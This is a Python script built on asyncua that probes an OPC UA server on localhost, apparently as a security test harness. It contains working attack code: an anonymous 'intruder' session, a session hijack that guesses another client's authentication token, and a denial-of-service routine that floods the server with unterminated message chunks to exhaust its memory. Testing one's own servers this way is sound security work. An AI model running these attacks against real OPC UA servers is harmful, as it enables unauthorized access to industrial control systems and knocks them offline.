"""A client without a certificate that goes as far as the server lets it: prints what each way in came to.

`session`: it opens a session of its own. `takeover`: it activates the session of somebody else, whose token it guesses.
`hoard`: it sends a message that has no end; how much of it was taken, MiB, before the server hung up.
"""

import asyncio
import sys

from asyncua import Client, ua
from asyncua.common.connection import MessageChunk

PARTS_A_MIB = 32
PART_BYTES = 2**20 // PARTS_A_MIB


async def _try(name, attempt):
    try:
        await attempt
    except ua.UaStatusCodeError as refused:
        print(f"{name}:{type(refused).__name__}")
    else:
        print(f"{name}:entered")


async def _opened(url):
    """A channel without security, which is there to ask for the endpoints."""
    client = Client(url)
    await client.connect_socket()
    await client.send_hello()
    await client.open_secure_channel()
    return client.uaclient


def _anonymous():
    wanted = ua.ActivateSessionParameters()
    wanted.UserIdentityToken = ua.AnonymousIdentityToken(PolicyId="anonymous")
    return wanted


async def _session(url):
    channel = await _opened(url)
    wanted = ua.CreateSessionParameters(EndpointUrl=url, SessionName="intruder", RequestedSessionTimeout=60_000)
    await channel.create_session(wanted)
    await channel.activate_session(_anonymous())


async def _takeover(url):
    channel = await _opened(url)
    # asyncua counts its sessions' tokens from 1000 on; the server's own is the first, then the one above.
    channel.protocol.authentication_token = ua.NodeId(1001)
    await channel.activate_session(_anonymous())


async def _hoard(url):
    protocol = (await _opened(url)).protocol
    inside, number = protocol._connection, 0
    while protocol.transport is not None and not protocol.transport.is_closing() and number < 64 * PARTS_A_MIB:
        number += 1
        part = MessageChunk(inside.security_policy.symmetric_cryptography, bytes(PART_BYTES))
        part.MessageHeader.ChunkType = ua.ChunkType.Intermediate
        part.MessageHeader.ChannelId = inside.security_token.ChannelId
        part.SecurityHeader.TokenId = inside.security_token.TokenId
        # The channel was opened with the first.
        part.SequenceHeader.SequenceNumber, part.SequenceHeader.RequestId = number + 1, 2
        protocol.transport.write(part.to_binary())
        if number % PARTS_A_MIB == 0:
            await asyncio.sleep(0.05)
    print(f"hoard:{number // PARTS_A_MIB}")


async def main():
    url = f"opc.tcp://127.0.0.1:{sys.argv[1]}/goldline"
    if sys.argv[2:] == ["hoard"]:
        await _hoard(url)
        return
    await _try("session", _session(url))
    await _try("takeover", _takeover(url))


asyncio.run(main())
